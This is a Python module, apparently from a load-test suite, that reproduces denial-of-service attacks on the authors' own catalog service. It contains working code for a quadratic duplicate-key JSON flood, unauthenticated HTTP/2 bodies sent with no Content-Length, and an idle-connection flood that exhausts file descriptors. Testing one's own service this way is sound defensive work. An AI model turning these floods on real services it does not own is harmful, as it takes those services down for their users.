"""Attacks on the front door: what a client can make the service do before it knows who the client is, or what
the client may do (issue 39, rows 1, 2 and 7).

- `duplicate-keys-no-credential`, `duplicate-keys-no-grant`: bodies of one JSON object with many keys and one
  of them twice (`{"k0":0, ..., "k0":1}`, 165 KB), sent without a credential, or by a client granted nothing, to
  commit routes (served directly, api/direct.py) and to routes served by Quart. Finding the repeated key once took
  time quadratic in the keys: seconds of a core per request, with every other request waiting.
- `h2-body-no-length`: HTTP/2 requests (prior knowledge, no TLS) whose body has no Content-Length, without a
  credential, sent as fast as flow control lets. "No Content-Length, no body" holds in HTTP/1 only: the service
  once kept all of such a body and answered 401 after its end.
- `idle-connection-flood`: connections opened and left idle, each reopened as soon as the service closes it, from
  an address of their own (127.0.0.2 on loopback, as from another host). Past the process's descriptor limit the
  service could not accept, open a file or reach its database; at the connection maximum, each one closed to make
  room was opened again at once, and that churn took the service's time.

Each runs in threads (the flood in a process of its own, whose descriptors are not the caller's) until its `with`
block ends, and yields a `Tally` of what it got back.
"""

from __future__ import annotations

import json
import resource
import selectors
import socket
import subprocess
import sys
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from urllib.parse import urlsplit

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import httpx

from . import Target

# A table each route names (none need exist: every request is refused before anything is looked up).
DIRECT_PATHS = ("/v1/namespaces/db/tables/t",                      # Iceberg commit (its policy reads the body)
                "/api/2.1/unity-catalog/delta/preview/commits",     # Delta commit (its policy reads the table id)
                "/v1/table/db$t/version/create")                    # Lance commit (its policy reads the path)
QUART_PATHS = ("/v1/namespaces",                                    # Iceberg create namespace (reads the body)
               "/v1/namespaces/db/properties")                      # Iceberg properties (reads the path)


class Tally:
    """What an attack's requests got back: answers by status (or by error), with how long each took."""

    def __init__(self) -> None:
        self._lock = threading.Lock()
        self.answers: Counter[str] = Counter()
        self.seconds: list[float] = []
        self.notes: Counter[str] = Counter()   # attack-specific figures (bytes sent before the answers, ...)

    def add(self, answer: int | str, seconds: float) -> None:
        with self._lock:
            self.answers[str(answer)] += 1
            self.seconds.append(seconds)

    def note(self, name: str, value: float = 1) -> None:
        with self._lock:
            self.notes[name] += value

    @property
    def requests(self) -> int:
        return sum(self.answers.values())

    def slowest(self) -> float:
        return max(self.seconds, default=0.0)

    def __repr__(self) -> str:
        return f"Tally({dict(self.answers)}, slowest {self.slowest():.2f} s, {dict(self.notes)})"


def token(target: Target, role: str) -> str:
    """A bearer token of the target's client `role`, from its token endpoint."""
    client_id, secret = target.clients[role]
    r = httpx.post(f"{target.base_url}/v1/oauth/tokens", timeout=30,
                   data={"grant_type": "client_credentials", "client_id": client_id, "client_secret": secret})
    r.raise_for_status()
    return r.json()["access_token"]


@contextmanager
def threads(work: Callable[[threading.Event], None], count: int) -> Iterator[None]:
    """`count` threads running `work(stop)` until the block ends."""
    stop = threading.Event()
    started = [threading.Thread(target=work, args=(stop,), daemon=True, name=f"attack-{i}") for i in range(count)]
    for thread in started:
        thread.start()
    try:
        yield
    finally:
        stop.set()
        for thread in started:
            thread.join(timeout=30)


# -- repeated keys --------------------------------------------------------------------------------------------------


def repeated_key_body(keys: int = 20_000) -> bytes:
    """One object of `keys` keys, the first of them again at the end: 165 KB at 20,000 keys."""
    return ("{" + ",".join(f'"k{i}":0' for i in range(keys)) + ',"k0":1}').encode()


@contextmanager
def repeated_keys(target: Target, credential: str | None, workers: int = 2) -> Iterator[Tally]:
    """Each worker posts the body to each path in turn, over and over, on a connection of its own."""
    body = repeated_key_body()
    headers = {"Content-Type": "application/json"}
    if credential is not None:
        headers["Authorization"] = f"Bearer {credential}"
    tally = Tally()

    def work(stop: threading.Event) -> None:
        with httpx.Client(base_url=target.base_url, timeout=120, headers=headers) as client:
            while not stop.is_set():
                for path in (*DIRECT_PATHS, *QUART_PATHS):
                    started = time.monotonic()
                    try:
                        answer: int | str = client.post(path, content=body).status_code
                    except httpx.HTTPError as exc:
                        answer = type(exc).__name__
                    tally.add(answer, time.monotonic() - started)
    with threads(work, workers):
        yield tally


def duplicate_keys_no_credential(target: Target) -> Iterator[Tally]:
    return repeated_keys(target, None)


def duplicate_keys_no_grant(target: Target) -> Iterator[Tally]:
    return repeated_keys(target, token(target, "nogrant"))


# -- HTTP/2 bodies of no announced length ---------------------------------------------------------------------------


class H2Client:
    """One HTTP/2 connection over plain TCP (prior knowledge, as hypercorn takes it), one request at a time."""

    def __init__(self, base_url: str, timeout_s: float = 30.0) -> None:
        url = urlsplit(base_url)
        self.sock = socket.create_connection((url.hostname, url.port), timeout=timeout_s)
        self.authority = url.netloc
        self.conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        self.conn.initiate_connection()
        self.sock.sendall(self.conn.data_to_send())
        self.timeout_s = timeout_s

    def close(self) -> None:
        self.sock.close()

    def request(self, method: str, path: str, size: int = 0,
                headers: dict[str, str] | None = None) -> tuple[int | str, int]:
        """Send a body of `size` bytes (none: 0) with no Content-Length, as fast as flow control lets, until it is
        sent or the answer comes (its end, or the stream's reset): the answer's status and the bytes sent by then."""
        stream = self.conn.get_next_available_stream_id()
        self.conn.send_headers(stream, [(":method", method), (":path", path), (":scheme", "http"),
                                        (":authority", self.authority), ("content-type", "application/json"),
                                        *(headers or {}).items()], end_stream=size == 0)
        self.sock.sendall(self.conn.data_to_send())
        chunk = b"x" * self.conn.max_outbound_frame_size
        sent, status, done = 0, None, False
        deadline = time.monotonic() + self.timeout_s
        while not done:
            if time.monotonic() > deadline:
                return "timeout", sent
            progressed = False
            while status is None and sent < size:   # all that flow control lets go now
                window = min(self.conn.local_flow_control_window(stream), len(chunk), size - sent)
                if window <= 0:
                    break
                self.conn.send_data(stream, chunk[:window], end_stream=sent + window >= size)
                sent += window
                progressed = True
            self.sock.sendall(self.conn.data_to_send())
            self.sock.settimeout(0 if progressed else 0.2)   # while it can send, only look at what has come
            try:
                data = self.sock.recv(1 << 16)
            except (BlockingIOError, socket.timeout):
                continue
            finally:
                self.sock.settimeout(self.timeout_s)
            if not data:
                return "closed", sent
            for event in self.conn.receive_data(data):
                if isinstance(event, h2.events.ResponseReceived) and event.stream_id == stream:
                    status = int(dict(event.headers)[b":status"])
                elif isinstance(event, (h2.events.StreamEnded, h2.events.StreamReset)) and event.stream_id == stream:
                    done = done or status is not None or isinstance(event, h2.events.StreamReset)
                elif isinstance(event, h2.events.DataReceived):
                    self.conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
        self.sock.sendall(self.conn.data_to_send())
        return (status if status is not None else "reset"), sent


@contextmanager
def h2_bodies(target: Target, credential: str | None = None, size: int = 256 << 20, workers: int = 1,
              paths: tuple[str, ...] = (DIRECT_PATHS[0], QUART_PATHS[0])) -> Iterator[Tally]:
    """Each worker posts bodies of `size` bytes and no Content-Length to each of `paths` in turn, a connection each;
    `tally.notes["bytes sent"]` adds up what was sent before each answer."""
    headers = {} if credential is None else {"authorization": f"Bearer {credential}"}
    tally = Tally()

    def work(stop: threading.Event) -> None:
        while not stop.is_set():
            for path in paths:
                started = time.monotonic()
                try:
                    client = H2Client(target.base_url)
                    try:
                        answer, sent = client.request("POST", path, size, headers)
                    finally:
                        client.close()
                except (OSError, h2.exceptions.ProtocolError) as exc:
                    answer, sent = type(exc).__name__, 0
                tally.add(answer, time.monotonic() - started)
                tally.note("bytes sent", sent)
    with threads(work, workers):
        yield tally


def h2_body_no_length(target: Target) -> Iterator[Tally]:
    return h2_bodies(target)


# -- idle connections -----------------------------------------------------------------------------------------------


def own_address(base_url: str) -> str:
    """The address an attacker connects from: on loopback 127.0.0.2, as a host of its own would (the service's
    other clients here come from 127.0.0.1); elsewhere, this host's own ("")."""
    return "127.0.0.2" if urlsplit(base_url).hostname == "127.0.0.1" else ""


@contextmanager
def idle_connections(target: Target, count: int = 1100, source: str | None = None,
                     one_request: bool = False) -> Iterator[Tally]:
    """`count` connections opened and left idle (`one_request`: after one request, a health check, each), each
    opened again when the service closes it, from a process of its own, from address `source` (default:
    `own_address`). `tally.notes`: "open" (now), "opened" and "closed by the service" (so far), "refused" (connects
    that failed), updated every 0.2 s."""
    tally = Tally()
    source = own_address(target.base_url) if source is None else source
    proc = subprocess.Popen([sys.executable, "-m", "loadtest.attacks.front_door", "idle", target.base_url, str(count),
                             source, "request" if one_request else "silent"],
                            stdout=subprocess.PIPE, text=True, cwd=Path(__file__).resolve().parents[2])

    def read_reports() -> None:
        for line in proc.stdout:
            report = json.loads(line)
            with tally._lock:
                for name, value in report.items():   # (the process's totals so far)
                    tally.notes[name] = value
    reader = threading.Thread(target=read_reports, daemon=True)
    reader.start()
    try:
        yield tally
    finally:
        proc.terminate()
        proc.wait(timeout=30)
        reader.join(timeout=10)


def _hold_idle(base_url: str, count: int, source: str = "", mode: str = "silent") -> None:
    """(In the flood's own process.) Hold `count` idle connections from address `source` (`mode` "request": each
    sends one request first), each connect made without waiting for the others, and report to stdout every 0.2 s."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(hard, count + 64)), hard))
    url = urlsplit(base_url)
    address = socket.getaddrinfo(url.hostname, url.port, type=socket.SOCK_STREAM)[0]
    selector = selectors.DefaultSelector()
    counts = {"open": 0, "opened": 0, "closed by the service": 0, "refused": 0}
    connecting = 0

    def forget(sock: socket.socket) -> None:
        selector.unregister(sock)
        sock.close()

    reported = 0.0
    while True:
        while counts["open"] + connecting < count:
            sock = socket.socket(address[0], socket.SOCK_STREAM)
            sock.setblocking(False)
            if source:
                sock.bind((source, 0))
            sock.connect_ex(address[4])
            selector.register(sock, selectors.EVENT_WRITE)
            connecting += 1
        for key, events in selector.select(timeout=0.05):
            sock = key.fileobj
            if events & selectors.EVENT_WRITE:   # connected, or refused
                connecting -= 1
                if sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                    counts["refused"] += 1
                    forget(sock)
                    continue
                selector.modify(sock, selectors.EVENT_READ)
                if mode == "request":
                    try:
                        sock.send(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")   # (its answer is read, and dropped)
                    except OSError:
                        pass   # (closed already: seen below)
                counts["open"] += 1
                counts["opened"] += 1
                continue
            try:
                data = sock.recv(1 << 16)
            except OSError:
                data = b""
            if not data:   # the service closed it: another takes its place
                forget(sock)
                counts["open"] -= 1
                counts["closed by the service"] += 1
        if time.monotonic() - reported > 0.2:
            print(json.dumps(counts), flush=True)
            reported = time.monotonic()


def idle_connection_flood(target: Target) -> Iterator[Tally]:
    return idle_connections(target)


ATTACKS = {
    "duplicate-keys-no-credential": duplicate_keys_no_credential,
    "duplicate-keys-no-grant": duplicate_keys_no_grant,
    "h2-body-no-length": h2_body_no_length,
    "idle-connection-flood": idle_connection_flood,
}


if __name__ == "__main__":
    if sys.argv[1:2] == ["idle"]:
        _hold_idle(sys.argv[2], int(sys.argv[3]), *sys.argv[4:6])
